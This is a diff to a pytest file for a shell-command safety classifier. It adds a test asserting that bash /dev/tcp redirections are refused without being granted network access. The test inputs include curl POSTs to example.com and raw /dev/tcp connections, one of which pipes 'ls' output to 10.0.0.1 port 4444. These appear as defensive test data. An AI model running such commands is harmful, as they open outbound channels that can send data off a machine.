@@ -86,8 +86,6 @@ NEEDS_NETWORK = [
     "curl -X POST http://example.com -d $((1+1))",
     "cat <<$'EOF'\nhello\nEOF\ncurl -X POST http://example.com\n$EOF",
     "[[ -f x ]] && curl -X POST http://example.com",
-    "exec 3<>/dev/tcp/example.com/80; echo hi >&3",
-    "ls > /dev/tcp/10.0.0.1/4444",
     "trap 'curl -X POST http://example.com' EXIT",
     "$(echo curl) -X POST http://example.com",
 ]
@@ -105,6 +103,17 @@ def test_no_construct_drops_the_network_a_rule_sets(command: str) -> None:
     verdict = classify(command)
     assert pair(verdict) == NEVER, verdict.reason
     assert verdict.needs_network, f"{command!r} lost its network flag: {verdict.reason}"
+
+
+@pytest.mark.parametrize(
+    "command", ["exec 3<>/dev/tcp/example.com/80; echo hi >&3", "ls > /dev/tcp/10.0.0.1/4444"]
+)
+def test_bash_network_redirections_are_never_but_get_no_network(command: str) -> None:
+    # The verdict must not grant what no rule asked for: the sandbox without network stops it.
+    verdict = classify(command)
+    assert pair(verdict) == NEVER, verdict.reason
+    assert any("network connection" in p.reason for p in verdict.parts), verdict.reason
+    assert not verdict.needs_network
 
 
 @pytest.mark.parametrize(
